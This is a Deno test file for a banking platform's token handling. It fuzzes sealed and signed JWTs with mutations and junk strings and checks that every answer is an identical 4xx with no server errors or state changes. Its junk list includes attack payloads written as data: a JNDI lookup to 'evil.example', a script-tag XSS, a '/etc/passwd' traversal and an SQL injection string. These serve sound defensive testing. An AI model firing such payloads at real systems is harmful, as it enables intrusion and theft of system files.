/**
 * No malformed token causes a server error, and the response to a token that cannot be decrypted does not reveal why
 * (contract J1 to J38).
 */
import { assert, assertEquals, assertNotEquals, assertThrows } from "@std/assert";
import { errors } from "jose";
import { seeded } from "../../scripts/proofs/prove/random.ts";
import { joseFailure } from "../../src/base/jose/compact_jws.ts";
import { IMPLICIT, returnTo, sealedReturn, signedReturn } from "testing/bank_return.ts";
import { toBank } from "testing/authorization_flow.ts";
import { assertCodeAnswer } from "testing/front_channel.ts";
import { forged, takenEverywhere } from "support/jwt_attacks.ts";
import { jwtPlaces } from "support/jwt_places.ts";
import { sealToPlatform } from "testing/jwts.ts";
import { openEnvironment } from "testing/environment.ts";
import { stepsOf } from "support/steps.ts";
import { unchanged } from "testing/store_contents.ts";

const MUTATIONS = 300;
const INTERACTION = { "x-fapi-interaction-id": "0f9c7a0e-5d0b-4a3e-8b60-6f5f9d4a2b11" };

Deno.test("300 mutations of a sealed bank JWT get one answer, to the byte [J24]", async () => {
  await using env = await openEnvironment();
  const flow = await toBank(env, { body: IMPLICIT });
  const sealed = await sealToPlatform(env, await signedReturn(env, flow));
  const random = seeded(24, "mutations of a sealed bank JWT");
  const answer = async (path: string): Promise<string> => {
    const response = await flow.browser.open(path, { headers: INTERACTION });
    return JSON.stringify([response.status, [...response.headers], await response.text()]);
  };
  const before = await env.snapshot();
  const answers = new Map<string, number>();
  const count = (text: string): void => void answers.set(text, (answers.get(text) ?? 0) + 1);
  for (let mutation = 0; mutation < MUTATIONS; mutation++) {
    const parts = sealed.split(".");
    const index = mutation % parts.length;
    const octets = Uint8Array.fromBase64(parts[index] ?? "", { alphabet: "base64url" });
    const at = random.below(octets.length);
    octets[at] = (octets[at] ?? 0) ^ (1 + random.below(255));
    const mutated = parts.with(index, octets.toBase64({ alphabet: "base64url", omitPadding: true })).join(
      ".",
    );
    assertNotEquals(mutated, sealed);
    count(await answer(returnTo("BANKA", mutated)));
  }
  // A JWE that decrypts but has invalid content must be rejected with the same response (RFC 7516 §11.5).
  for (const inside of ["", "no JWS", "a.b.c", await signedReturn(env, flow, { claims: { aud: "other" } })]) {
    count(await answer(await sealedReturn(env, "BANKA", inside === "" ? "{}" : inside)));
  }
  count(await answer("/BANKA/authorization.sca.oauth2"));
  assertEquals([...answers.values()], [MUTATIONS + 5]);
  assertEquals((JSON.parse([...answers.keys()][0] ?? "[]") as unknown[])[0], 400);
  assertEquals(await env.snapshot(), before);
  await assertCodeAnswer(await flow.browser.open(returnTo("BANKA", sealed)));
});

Deno.test("joseFailure has a word for every error of jose and WebCrypto, and hides no bug [J38]", () => {
  const classes = Object.values(errors);
  assert(classes.length >= 15, "jose has lost its errors");
  for (const Failure of classes) {
    const failure: unknown = Reflect.construct(Failure, ["message", { exp: 1 }]);
    if (!(failure instanceof errors.JOSEError)) throw new Error(`${Failure.name} is no JOSEError`);
    assertEquals(joseFailure(failure), failure.code);
  }
  assertEquals(joseFailure(new TypeError("x")), "TypeError");
  assertEquals(joseFailure(new RangeError("x")), "RangeError");
  assertEquals(joseFailure(new DOMException("x", "OperationError")), "OperationError");
  assertThrows(() => joseFailure(new Error("a bug")), Error, "a bug");
  assertThrows(() => joseFailure(new ReferenceError("a bug")), ReferenceError, "a bug");
});

/** Texts that are not tokens. */
const RUBBISH: readonly string[] = [
  ".",
  "..",
  "...",
  "....",
  "a.b.c",
  "AAAA.AAAA.AAAA",
  "e30.e30.",
  "e30.e30.AA",
  "eyJhbGciOiJQUzI1NiJ9..",
  "eyJhbGciOiJQUzI1NiJ9.e30.AA",
  "eyJhbGciOiJQUzI1NiIsImtpZCI6ImEifQ..AA",
  "bnVsbA.bnVsbA.bnVsbA",
  "W10.W10.W10",
  "IiI.IiI.IiI",
  "{}",
  "[]",
  "null",
  "undefined",
  "0",
  "-1",
  "%00",
  "%",
  "${jndi:ldap://evil.example/a}",
  "<script>alert(1)</script>",
  "../../../etc/passwd",
  "' OR 1=1 --",
  "A".repeat(8192),
  "A".repeat(8193),
];

Deno.test("no rubbish and no mutation is answered with 5xx anywhere, or changes anything [J38]", async (t) => {
  await using env = await openEnvironment();
  const places = await jwtPlaces(env);
  await stepsOf(t, places, (place) => place.name, async (place) => {
    const random = seeded(38, place.name);
    const token = await forged(await place.parts());
    const mutations = Array.from({ length: 40 }, () => {
      const at = random.below(token.length);
      const other = "AQ.-_9 ="[random.below(8)] ?? "";
      return random.chance(0.5) ? token.slice(0, at) + other + token.slice(at + 1) : token.slice(0, at);
    });
    await unchanged(env, async () => {
      let last = new Response();
      for (const text of [...RUBBISH, ...mutations.filter((mutation) => mutation.trim() !== token)]) {
        last = await place.present(text);
        const body = await last.text();
        assert(last.status >= 400 && last.status < 500, `${last.status} for ${text}: ${body}`);
      }
      return last;
    });
  });
  assertEquals(env.logged.filter((line) => line.includes('"level":"error"')), []);
  await takenEverywhere(t, places);
});
